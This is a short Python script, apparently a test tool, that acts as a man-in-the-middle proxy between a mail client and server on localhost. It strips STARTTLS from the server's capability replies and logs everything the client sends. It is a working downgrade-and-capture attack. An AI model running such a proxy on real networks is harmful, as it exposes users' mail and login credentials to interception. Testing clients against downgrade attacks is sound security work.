"""Stands between a mail program and its server as somebody hostile would: it takes STARTTLS out of what the server
offers, and writes down all that the mail program says.

    strip_starttls.py PORT SERVER-PORT FILE
"""

import contextlib
import socket
import socketserver
import sys
import threading

port, server_port, path = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]


class Between(socketserver.StreamRequestHandler):
    def handle(self):
        with socket.create_connection(("127.0.0.1", server_port)) as server, open(path, "ab", buffering=0) as said:
            threading.Thread(target=self.answer, args=(server.makefile("rb"),), daemon=True).start()
            while data := self.request.recv(4096):
                said.write(data)
                server.sendall(data)

    def answer(self, replies):
        # The mail program may have hung up.
        with contextlib.suppress(OSError):
            for line in replies:
                self.request.sendall(line.replace(b"STARTTLS", b"X-NOTHING"))


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


Server(("127.0.0.1", port), Between).serve_forever()
